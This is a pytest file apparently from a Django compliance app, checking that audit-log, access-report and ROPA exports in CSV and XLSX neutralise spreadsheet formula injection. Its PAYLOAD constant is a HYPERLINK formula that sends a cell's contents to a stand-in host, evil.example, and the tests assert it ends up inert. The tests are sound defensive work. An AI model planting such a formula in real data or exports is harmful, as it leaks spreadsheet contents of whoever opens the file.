"""Issue 12, item 4: every CSV and XLSX export neutralises formula injection. A cell that a
spreadsheet would read as a formula (it begins with =, +, -, @, a tab or a carriage return) is
written with a leading apostrophe in CSV; XLSX cells are written as text, never as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from governance.compliance.cells import safe_cell
from tests.compliance.conftest import run
from tests.consent.factories import make_purpose

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def period():
    now = timezone.now()
    return {"start": now - timedelta(hours=1), "end": now + timedelta(hours=1)}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    """No cell of the CSV begins with a character a spreadsheet reads as a formula."""
    live = [cell for cell in cells(text) if cell.startswith(DANGEROUS)]
    assert live == []


@pytest.mark.parametrize("first", DANGEROUS)
def test_a_cell_that_would_start_a_formula_gets_a_leading_apostrophe(first):
    assert safe_cell(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("value", ["plain", "", "1.5", "c-1", " =not first", "'quoted"])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_numbers_and_empty_values_keep_their_type():
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None


def test_a_login_attempt_named_like_a_formula_is_inert_in_the_audit_log_csv(client, audrey):
    # given
    client.post("/accounts/login/", {"username": PAYLOAD, "password": "x"})

    # when
    export = run(audrey, "audit_log", **period())

    # then
    with zipfile.ZipFile(export.file_path) as archive:
        text = archive.read("audit-log.csv").decode("utf-8")
    assert f"'{PAYLOAD}" in cells(text)
    assert_inert(text)


def test_a_checks_dataset_named_like_a_formula_is_inert_in_the_access_report(
    api_client, audrey, bob
):
    # given
    api_client.force_authenticate(bob)
    response = api_client.post(
        "/api/v1/access/check", {"dataset": PAYLOAD, "purpose": "x"}, format="json"
    )
    assert response.status_code == 200

    # when
    export = run(audrey, "access_report", **period())

    # then
    text = Path(export.file_path).read_text("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["dataset"] == f"'{PAYLOAD}"
    assert_inert(text)


def test_a_purpose_named_like_a_formula_is_inert_in_the_ropa_csv(petra, alice):
    make_purpose("hostile", owner=alice, name=PAYLOAD, description="-2+3")

    export = run(petra, "ropa", fmt="csv")

    text = Path(export.file_path).read_text("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["Purpose of processing"] == f"'{PAYLOAD}"
    assert row["Purpose description"] == "'-2+3"
    assert_inert(text)


def test_a_purpose_named_like_a_formula_is_text_in_the_ropa_xlsx(petra, alice):
    make_purpose("hostile", owner=alice, name=PAYLOAD, description="@SUM(1)")

    export = run(petra, "ropa")

    workbook = load_workbook(export.file_path)
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    sheet = workbook["Art. 30(1) record"]
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("Purpose of processing") + 1)
    assert (name.value, name.data_type) == (PAYLOAD, "s")
    assert name.quotePrefix is True
